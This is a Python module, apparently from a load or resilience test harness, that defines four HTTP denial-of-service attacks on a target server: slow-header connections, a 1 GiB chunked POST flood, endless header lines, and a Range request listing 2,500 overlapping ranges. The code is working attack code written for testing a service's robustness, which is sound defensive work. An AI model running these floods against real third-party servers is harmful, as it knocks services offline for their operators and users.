"""The plain HTTP side: status page, metrics, health."""
import threading
import time

from attacks.registry import attack
from http2 import open_socket

POST_BYTES, POST_SECONDS = 1 << 30, 7
ANSWER_BYTES = 256 << 20


@attack("http_slow", "4, then 16, then 64 connections that send a request slowly, three bytes a second, while /healthz is asked",
        seconds=12)
def http_slow(target):
    held, opened = [], 0
    for count in (4, 16, 64):
        until = target.left() - target.seconds / 3
        while target.left() > max(0, until):
            while len(held) < count:
                try:
                    held.append(open_socket(target.http, target.source(opened), 1))
                    held[-1].sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
                except OSError:
                    break
                opened += 1
            for one in list(held):
                try:
                    one.sendall(b"a")
                except OSError:
                    one.close()
                    held.remove(one)
            time.sleep(0.3)
    return {"connections": opened}


def push(target, number, head, part, told):
    """Sends a head and then the same part over and over, until it is refused; a new connection then."""
    while target.goes_on() and told["bytes"] < POST_BYTES:
        try:
            with open_socket(target.http, target.source(number), 2) as one:
                one.settimeout(1)
                one.sendall(head)
                while target.goes_on() and told["bytes"] < POST_BYTES:
                    one.sendall(part)
                    told["bytes"] += len(part)
        except OSError:
            told["ended"] += 1
        time.sleep(0.2)


def push_from(target, connections, head, part):
    told = {"bytes": 0, "ended": 0}
    threads = [threading.Thread(target=push, args=(target, number, head, part, told)) for number in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return told


@attack("http_post", "a chunked POST of 1 GiB", seconds=POST_SECONDS)
def http_post(target):
    chunk = b"10000\r\n" + b"a" * 0x10000 + b"\r\n"
    return push_from(target, 1, b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n", chunk)


@attack("http_headers", "header lines without end, one connection", seconds=POST_SECONDS)
def http_headers(target):
    lines = b"".join(b"X-%d: %s\r\n" % (number, b"a" * 40) for number in range(1000))
    return push_from(target, 1, b"GET / HTTP/1.1\r\nHost: a\r\n", lines)


@attack("http_ranges", "Range: bytes=0-,0-,... of the status page", seconds=POST_SECONDS)
def http_ranges(target):
    asked = answered = largest = 0
    while target.goes_on() and answered < ANSWER_BYTES:
        got = 0
        try:
            with open_socket(target.http, target.source(asked), 2) as one:
                one.settimeout(2)
                one.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=" + b",".join([b"0-"] * 2500) + b"\r\n\r\n")
                while target.goes_on() and (chunk := one.recv(1 << 18)):
                    got += len(chunk)
        except OSError:
            pass
        asked, answered, largest = asked + 1, answered + got, max(largest, got)
        time.sleep(0.2)
    return {"requests": asked, "largest_answer_bytes": largest, "answered_bytes": answered}
